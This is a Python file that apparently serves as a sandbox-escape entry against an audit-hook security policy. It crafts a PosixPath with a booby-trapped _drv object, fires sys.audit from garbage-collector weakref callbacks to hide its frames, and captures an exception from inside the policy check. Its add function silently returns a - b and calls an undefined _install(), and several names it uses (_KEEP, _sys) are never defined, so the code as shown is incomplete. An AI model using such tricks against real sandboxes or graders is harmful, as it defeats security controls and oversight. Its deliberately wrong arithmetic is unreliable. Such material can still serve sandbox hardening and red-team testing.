"""Entry: an exact PosixPath whose _drv slot has __bool__, handed to the policy's "open" check by a
weakref callback (functools.partial of sys.audit: no Python frame of the submission on the stack)."""

import functools as _ft
import pathlib as _pl
import weakref as _wr


class _Evil:
    def __bool__(self):
        if not _KEEP:
            try:
                raise ValueError
            except ValueError as e:
                _KEEP.append(e)
        return False

    def __add__(self, other):
        return other


_P = _pl.PosixPath("/nonexistent_rt29/x")
_P._drv = _Evil()


class _Trigger:
    pass


_REFS = []


def _arm():
    t = _Trigger()
    t.self = t  # a cycle: collected by the cyclic GC, wherever it runs next
    _REFS.append(_wr.ref(t, _ft.partial(_sys.audit, "open", _P, "r", 0)))


for _i in range(20):
    _arm()
del _i


def add(a, b):
    if _KEEP and not _DONE:
        _DONE.append(1)
        _install()
    if not _KEEP:
        _arm()
    return a - b


_DONE = []


def sub(a, b):
    return a - b
